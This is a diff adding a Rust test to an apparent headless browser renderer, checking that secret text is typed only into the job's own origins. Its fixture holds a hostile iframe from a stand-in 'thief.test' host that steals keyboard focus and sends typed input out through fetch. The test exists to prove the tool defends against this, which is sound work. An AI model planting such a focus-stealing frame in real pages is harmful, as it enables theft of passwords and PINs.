@@ -2,10 +2,12 @@
 
 use std::time::Duration;
 
+use url::Url;
+
 use super::site::{Answer, Site};
 use super::{Stage, config, script_of};
 use crate::model::{Action, RenderConfig, SecretText};
-use crate::render::{Awaited, PageScript, RenderError};
+use crate::render::{Awaited, PageScript, RenderError, Step, Typed};
 
 fn steps(actions: Vec<Action>, wait_timeout_ms: u32) -> PageScript {
     script_of(&RenderConfig {
@@ -235,5 +237,67 @@ async fn a_step_that_cannot_be_taken_says_which_and_why() {
     )
     .await;
     failed(Action::Evaluate("if (".into()), "evaluate", "SyntaxError").await;
+    stage.close().await;
+}
+
+#[tokio::test]
+async fn a_secret_is_typed_into_the_jobs_own_pages_only() {
+    // What the thief's frame gets of the keyboard, it passes on.
+    let site = Site::start(|path, _| match path {
+        "/login" => Answer::html(
+            "<input id=pin oninput='seen.textContent = pin.value'><div contenteditable id=note></div><p id=seen></p>
+             <button id=b>b</button><iframe id=frame src='http://thief.test/thief'></iframe>",
+        ),
+        "/thief" => Answer::html(
+            "<input id=i oninput='fetch(\"/got?\" + i.value)'><script>setInterval(() => i.focus(), 5)</script>",
+        ),
+        _ => Answer::html("<p>x</p>"),
+    })
+    .await;
+    let stage = Stage::open(&site).await;
+    let typed = |own: &str, selector: &str, wait_timeout_ms: u32| PageScript {
+        own_origins: vec![Url::parse(own).unwrap().origin()],
+        steps: vec![Step::Type {
+            selector: selector.into(),
+            text: Typed {
+                text: "hunter2-'ß".into(),
+                is_secret: true,
+            },
+        }],
+        ..steps(Vec::new(), wait_timeout_ms)
+    };
+    let own = "http://site.test/";
+    for (selector, expected) in [
+        ("#pin", "<p id=\"seen\">hunter2-'ß</p>"),
+        ("#note", ">hunter2-'ß</div>"),
+    ] {
+        let page = stage.render("/login", &typed(own, selector, 20_000)).await;
+        assert!(page.html.contains(expected), "{}", page.html);
+    }
+    for other in ["http://other.example/", "https://site.test/"] {
+        match stage.fail("/login", &typed(other, "#pin", 20_000)).await {
+            RenderError::Action {
+                index: 0,
+                action: "type",
+                reason,
+            } => {
+                assert!(reason.contains("none of the job's own origins"), "{reason}");
+            }
+            error => panic!("{error}"),
+        }
+    }
+    for mute in ["#frame", "#b"] {
+        let error = stage.fail("/login", &typed(own, mute, 5_000)).await;
+        assert!(
+            error.to_string().contains(&format!("`{mute}` takes no text")),
+            "{error}"
+        );
+    }
+    let got: Vec<_> = site
+        .requests()
+        .into_iter()
+        .filter(|request| request.contains("/got"))
+        .collect();
+    assert!(got.is_empty(), "{got:?}");
     stage.close().await;
 }
